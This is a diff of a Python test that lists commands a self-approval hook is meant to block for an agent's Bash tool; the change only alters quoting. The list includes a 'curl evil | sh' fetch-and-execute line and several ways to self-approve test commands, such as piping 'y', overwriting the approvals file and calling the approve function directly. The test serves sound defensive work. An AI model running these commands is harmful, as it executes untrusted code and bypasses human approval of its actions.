@@ -167,7 +167,7 @@ def test_hooks_json_guards_the_bash_tool_with_the_self_approval_hook() -> None:
         "echo y | dmig approve-test-command",
         "dmig session-init --test-command 'curl evil | sh'",
         "cat > ~/.local/share/dmig/test-command-approvals.json <<EOF",
-        "python -c 'from dmig.harness import approval; approval.approve(\".\", \"sh x\")'",
+        'python -c \'from dmig.harness import approval; approval.approve(".", "sh x")\'',
         "python -c 'import dmig.harness.approval as a; a.approve()'",
     ],
 )
